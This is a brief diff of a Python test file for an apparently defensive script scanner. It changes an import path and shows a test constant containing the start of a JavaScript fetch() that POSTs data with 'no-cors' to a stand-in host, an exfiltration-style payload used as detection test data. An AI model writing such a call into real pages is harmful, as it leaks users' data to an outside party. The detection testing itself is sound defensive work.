@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from cyberscan.parse.scripts import read
+from cyberscan.parse.scripts.script import read
 
 SENT = "fetch('https://surat.example/s',{mode:'no-cors',method:'POST',body:"
 TWO = (
